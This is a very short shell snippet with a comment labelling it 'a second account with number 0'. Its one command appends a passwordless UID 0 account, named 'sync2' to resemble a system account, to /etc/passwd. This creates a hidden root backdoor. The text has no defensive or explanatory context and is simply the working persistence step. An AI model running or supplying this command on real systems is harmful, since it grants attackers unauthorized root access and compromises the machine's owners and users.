# A second account with number 0
#record
echo 'sync2::0:0::/:/bin/sh' >>/etc/passwd
